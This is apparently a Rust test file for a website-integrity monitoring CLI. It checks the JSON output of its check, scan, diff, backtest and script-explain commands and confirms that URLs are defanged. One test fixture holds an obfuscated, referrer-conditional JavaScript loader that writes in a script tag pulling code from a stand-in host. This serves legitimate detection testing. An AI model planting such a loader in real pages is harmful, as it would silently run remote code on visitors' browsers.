//! The exact keys of every JSON line that CLI.md fixes.

use crate::support::{Answer, Installation, pages};
use serde_json::Value;
use std::collections::BTreeSet;

/// Fails unless the object has exactly these keys; those behind `+` are additions to the fixed ones.
fn keys(value: &Value, fixed: &str, added: &str) {
    let found: BTreeSet<&str> = value.as_object().expect("an object").keys().map(String::as_str).collect();
    let wanted: BTreeSet<&str> = fixed.split(' ').chain(added.split(' ')).filter(|key| !key.is_empty()).collect();
    assert_eq!(found, wanted, "{value:#}");
}

fn finding(value: &Value) {
    let optional = ["location", "decoded"].into_iter().filter(|key| value.get(key).is_some());
    keys(value, "rule severity confidence plane summary evidence", &optional.collect::<Vec<_>>().join(" "));
    let one_of = |key: &str, allowed: &[&str]| {
        assert!(allowed.contains(&value[key].as_str().unwrap_or_default()), "{key}: {value:#}");
    };
    one_of("severity", &["critical", "high", "medium", "low", "info"]);
    one_of("confidence", &["certain", "firm", "tentative"]);
    one_of("plane", &["active", "content"]);
    if let Some(location) = value.get("location") {
        assert!(location["path"].is_string(), "{value:#}");
        for key in location.as_object().expect("an object").keys() {
            assert!(["path", "line", "column"].contains(&key.as_str()), "{value:#}");
        }
    }
}

fn findings(line: &Value) -> usize {
    let all = line["findings"].as_array().expect("findings");
    all.iter().for_each(finding);
    all.len()
}

#[test]
fn check() {
    let city = Installation::approved(&pages::ordinary());
    let fixed = "target organisation url persona verdict reason status bytes sha256 findings incident ms";
    let quiet = city.check("unchanged");
    keys(&quiet, fixed, "because despite digest");
    assert_eq!(
        (&quiet["target"], &quiet["organisation"], &quiet["persona"]),
        (&"top".into(), &"example-city".into(), &"desktop".into())
    );
    assert!(quiet["incident"].is_null() && quiet["ms"].is_f64() && quiet["bytes"].is_u64(), "{quiet:#}");
    assert_eq!(quiet["sha256"].as_str().map(str::len), Some(64));
    city.web.put("/top", Answer::page(pages::infected()));
    let alarm = city.check("alarm");
    keys(&alarm, fixed, "because despite digest");
    assert!(findings(&alarm) > 0 && alarm["incident"].is_string(), "{alarm:#}");
    assert!(
        alarm["findings"][0]["evidence"].as_str().is_some_and(|text| text.contains("http://malware.example")),
        "JSON is raw"
    );
    city.web.put("/top", Answer::page("gone").status(500));
    let unseen = city.check("unseen");
    keys(&unseen, fixed, "because despite digest next");
    assert_eq!((&unseen["reason"], &unseen["status"]), (&"error".into(), &500.into()));
}

#[test]
fn scan() {
    let city = Installation::watching(&[]);
    city.write("a.html", pages::ordinary());
    // Behind the end of the page: what writes there is no editor.
    city.write("b.html", format!("{}{}", pages::ordinary(), pages::FRAME));
    city.write("c.js", "var a = 1; document.title = a;");
    let lines = city.run(&["scan", "--json", "a.html", "b.html", "c.js"]).ended(1).lines();
    assert_eq!(lines.len(), 3);
    for (line, (input, kind, verdict)) in
        lines.iter().zip([("a.html", "page", "routine"), ("b.html", "page", "alarm"), ("c.js", "script", "routine")])
    {
        keys(line, "input kind verdict findings ms", "");
        assert_eq!((&line["input"], &line["kind"], &line["verdict"]), (&input.into(), &kind.into(), &verdict.into()));
        findings(line);
    }
    city.run(&["scan", "--json", "a.html"]).ended(0);
}

#[test]
fn diff() {
    let city = Installation::watching(&[]);
    city.write("a.html", pages::ordinary());
    city.write("b.html", pages::updated());
    city.write("c.html", pages::infected());
    let fixed = "old new kind verdict changes findings bounded ms";
    let routine = city.run(&["diff", "--json", "a.html", "b.html"]).ended(0).line();
    keys(&routine, fixed, "unlisted reasons");
    assert_eq!(
        (&routine["old"], &routine["new"], &routine["bounded"]),
        (&"a.html".into(), &"b.html".into(), &Value::Null)
    );
    let changes = routine["changes"].as_array().expect("changes");
    assert!(!changes.is_empty());
    for change in changes {
        keys(change, "kind plane path old new", if change.get("parts").is_some() { "parts" } else { "" });
        assert!(["insert", "delete", "update", "move"].contains(&change["kind"].as_str().unwrap_or_default()));
    }
    let alarm = city.run(&["diff", "--json", "a.html", "c.html"]).ended(1).line();
    assert_eq!(alarm["verdict"], "alarm");
    assert!(findings(&alarm) > 0);
    assert_eq!(city.run(&["diff", "--json", "a.html", "a.html"]).ended(0).line()["verdict"], "unchanged");
}

#[test]
fn in_a_backtest_what_came_back_stands_beside_the_other() {
    let city = Installation::watching(&[]);
    std::fs::create_dir_all(city.path("history/turns")).expect("a folder");
    let show = |name: &str| pages::city(&pages::NEWS, &format!("<script>var {name} = document.title;</script>"));
    for (number, name) in ["calm", "bold", "calm", "bold", "calm", "loud"].iter().enumerate() {
        city.write(&format!("history/turns/{number}.html"), show(name));
    }
    let lines = city.run(&["backtest", "--json", "history"]).ended(1).lines();
    let verdicts: Vec<_> = lines.iter().filter_map(|line| line["verdict"].as_str()).collect();
    assert_eq!(verdicts, ["review", "review", "unchanged", "unchanged", "review"]);
}

#[test]
fn backtest() {
    let city = Installation::watching(&[]);
    std::fs::create_dir_all(city.path("history/town")).expect("a folder");
    for (name, page) in
        [("0001.html", pages::ordinary()), ("0002.html", pages::updated()), ("0003.html", pages::infected())]
    {
        city.write(&format!("history/town/{name}"), page);
    }
    let lines = city.run(&["backtest", "--json", "history"]).ended(1).lines();
    let [first, second, summary] = lines.as_slice() else { panic!("{lines:#?}") };
    for (line, (version, index, verdict)) in [(first, ("0002.html", 1, "routine")), (second, ("0003.html", 2, "alarm"))]
    {
        keys(line, "page version index verdict changes findings ms", "");
        keys(&line["changes"], "active content", "");
        assert_eq!(
            (&line["version"], &line["index"], &line["verdict"]),
            (&version.into(), &index.into(), &verdict.into())
        );
        assert_eq!(line["page"], "history/town");
        findings(line);
    }
    keys(summary, "page summary", "");
    keys(&summary["summary"], "versions unchanged routine review alarm unseen", "");
}

#[test]
fn json_is_the_only_thing_on_stdout_and_text_is_defanged() {
    let city = Installation::approved(&pages::ordinary());
    city.web.put("/top", Answer::page(pages::infected()));
    let text = city.run(&["check"]).ended(1);
    assert!(text.out.contains("malware[.]example") && !text.out.contains("http://malware.example"), "{}", text.out);
    for command in [["incident", "list", "--json"], ["baseline", "list", "--json"]] {
        assert_eq!(city.run(&command).ended(1).lines().len(), 1);
    }
    let shown = city.run(&["incident", "list"]).ended(1);
    assert!(!shown.out.contains("http://malware.example"), "{}", shown.out);
}

#[test]
fn script_explain() {
    let city = Installation::watching(&[]);
    let packed = "var k='~3c~73~63~72~69~70~74~20~73~72~63~3d~2f~2f~63~64~6e~2d~73~74~61~74~2e~65~78~61~6d~70~6c~65\
                  ~2f~76~69~64~2e~6a~73~3e~3c~2f~73~63~72~69~70~74~3e';if(document.referrer){document.write(unescape(k.replace(/~/g,'%')));}";
    city.write("menu.js", packed);
    city.write("page.html", format!("<html><body onload=\"go()\"><p>x</p><script>{packed}</script></body></html>"));
    let line = city.run(&["script", "explain", "--json", "menu.js"]).ended(1).line();
    for key in [
        "input",
        "script",
        "path",
        "line",
        "size",
        "sha256",
        "family",
        "cut",
        "looks",
        "signs",
        "code",
        "layers",
        "markup",
        "elements",
        "actions",
        "urls",
        "redirects",
        "sinks",
        "findings",
    ] {
        assert!(line.get(key).is_some(), "{key} is missing in {line:#}");
    }
    assert!(line["layers"].to_string().contains("cdn-stat.example/vid.js"), "{line:#}");
    assert!(line["looks"].to_string().contains("referrer"), "{line:#}");
    let two = city.run(&["script", "explain", "--json", "page.html"]).ended(1).lines();
    assert_eq!(two.iter().map(|one| &one["script"]).collect::<Vec<_>>(), [&1, &2]);
    let told = city.run(&["script", "explain", "menu.js"]).ended(1).out;
    assert!(
        told.contains("layer 1") && told.contains(">> <script src=//cdn-stat[.]example/vid.js></script>"),
        "{told}"
    );
    assert!(!told.contains("cdn-stat.example"), "defanged: {told}");
    let told = city.run(&["--language", "ja", "script", "explain", "menu.js"]).ended(1).out;
    assert!(told.contains("第1層") && told.contains("参照する情報"), "{told}");
    city.write("plain.html", "<p>x</p>");
    assert!(city.run(&["script", "explain", "plain.html"]).ended(0).out.contains("no script"));
    city.run(&["script", "explain", "missing.js"]).ended(2);
}
